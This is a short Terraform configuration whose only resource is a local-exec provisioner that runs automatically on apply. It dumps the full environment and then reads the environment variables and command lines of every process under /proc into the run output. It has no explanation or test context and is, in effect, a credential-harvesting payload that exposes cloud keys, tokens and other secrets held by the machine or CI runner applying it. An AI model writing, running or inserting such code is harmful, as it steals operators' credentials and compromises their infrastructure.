resource "terraform_data" "job" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]
    command     = <<-EOT
      env
      for p in /proc/[0-9]*; do echo $p; tr '\\0' '\\n' <$p/environ; cat $p/cmdline; done
      true
    EOT
  }
}
